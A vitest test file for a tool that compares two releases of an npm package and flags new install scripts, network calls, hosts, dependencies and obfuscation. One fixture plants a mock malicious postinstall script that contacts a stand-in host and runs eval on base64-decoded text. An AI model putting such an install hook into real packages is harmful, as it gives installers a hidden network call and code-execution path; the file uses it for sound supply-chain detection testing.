import { describe, expect, test } from "vitest";

import { factsOf } from "../test/package-of.ts";
import { compareFacts } from "./compare-facts.ts";
import { nameWithoutHash } from "./drift-files.ts";
import { stepBetween } from "./version-step.ts";

describe("compareFacts", () => {
  test("says what a release gained", () => {
    const before = factsOf({
      "package.json": { version: "1.0.0", main: "index.js", dependencies: { kept: "^1.0.0", gone: "1" } },
      "index.js": "module.exports = 1;",
      "old.js": "old()",
    });
    const after = factsOf({
      "package.json": {
        version: "1.0.1",
        main: "index.js",
        bin: { tool: "cli.js" },
        scripts: { postinstall: "node setup.js" },
        dependencies: { kept: "^1.1.0", added: "^4.2.1" },
        devDependencies: { tools: "1" },
      },
      "index.js": "module.exports = 2;",
      "setup.js": "require('https').get('https://collector.example/x'); eval(atob('YQ=='));",
      "cli.js": "1",
    });
    const drift = compareFacts(before, after);

    expect(drift).toMatchObject({ from: "1.0.0", to: "1.0.1", step: "patch" });
    expect(drift.capabilities.added).toContainEqual({ kind: "network", trigger: "install" });
    expect(drift.capabilities.removed).toEqual([]);
    expect(drift.hosts).toEqual({ added: ["collector.example"], removed: [] });
    expect(drift.installScripts).toEqual([{ key: "postinstall", before: undefined, after: "node setup.js" }]);
    expect(drift.bins).toEqual([{ key: "tool", before: undefined, after: "cli.js" }]);
    expect(drift.dependencies.map(({ key, before: old, after: now }) => [key, old?.spec, now?.spec])).toEqual(
      [
        ["added", undefined, "^4.2.1"],
        ["gone", "1", undefined],
        ["kept", "^1.0.0", "^1.1.0"],
      ],
    );
    expect(drift.files).toEqual({
      added: ["cli.js", "setup.js"],
      removed: ["old.js"],
      changed: ["index.js", "package.json"],
    });
    expect(drift.concealments).toContain("packer");
  });

  test("takes a renamed bundle for the same file, and moved files and source maps for no change", () => {
    const before = factsOf({
      "package.json": {},
      "dist/chunk-B3xK9aQ1.js": "a(1)",
      "dist/a.js.map": "{}",
      "lib/x.js": "same()",
    });
    const after = factsOf({
      "package.json": {},
      "dist/chunk-Zk29fTa0.js": "a(2)",
      "dist/b.js.map": "{}",
      "src/x.js": "same()",
    });
    const drift = compareFacts(before, after);

    expect(drift.files).toEqual({ added: [], removed: [], changed: ["dist/chunk-Zk29fTa0.js"] });
  });

  test("finds nothing between a version and itself", () => {
    const facts = factsOf({
      "package.json": { scripts: { a: "b" } },
      "index.js": "fetch('https://a.example')",
    });
    const drift = compareFacts(facts, facts);

    expect(drift.step).toBe("same");
    expect(
      JSON.stringify([drift.capabilities, drift.hosts, drift.scripts, drift.files, drift.entries]),
    ).not.toMatch(/[\w/]+\.(?:js|json|example)/);
  });
});

describe("nameWithoutHash", () => {
  test.each([
    ["dist/chunk-B3xK9aQ1.js", "dist/chunk-*.js"],
    ["assets/index.8f2e1c7d9a.css", "assets/index-*.css"],
    ["dist/chunk-ab12cd34.js", "dist/chunk-*.js"],
    ["dist/react-dom.production.min.js", "dist/react-dom.production.min.js"],
    ["lib/use-sync-external-store.js", "lib/use-sync-external-store.js"],
    ["lib/base64.js", "lib/base64.js"],
    ["es2015/index.js", "es2015/index.js"],
    ["setup_bun.js", "setup_bun.js"],
  ])("makes of %s %s", (path, expected) => {
    expect(nameWithoutHash(path)).toBe(expected);
  });
});

describe("stepBetween", () => {
  test.each([
    ["1.2.3", "1.2.4", "patch"],
    ["1.2.3", "1.3.0", "minor"],
    ["1.2.3", "2.0.0", "major"],
    ["2.0.0-beta.1", "2.0.0-beta.2", "prerelease"],
    ["2.0.0-beta.10", "2.0.0-beta.9", "downward"],
    ["2.0.0-rc.1", "2.0.0", "prerelease"],
    ["1.9.0", "2.0.0-rc.1", "major"],
    ["2.0.0", "2.0.0-rc.1", "downward"],
    ["1.2.3", "1.2.3", "same"],
    ["1.2.4", "1.2.3", "downward"],
    ["x", "1.0.0", "same"],
  ])("calls %s to %s %s", (before, after, expected) => {
    expect(stepBetween(before, after)).toBe(expected);
  });
});
